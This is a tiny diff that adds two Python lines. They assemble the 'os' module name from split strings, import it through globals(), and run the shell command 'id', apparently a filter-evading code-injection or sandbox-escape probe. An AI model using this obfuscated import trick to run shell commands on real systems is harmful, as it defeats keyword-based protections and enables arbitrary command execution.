@@ -1,0 +1,2 @@
+globals()['os'] = __import__('o' + 's')
+os.system('id')
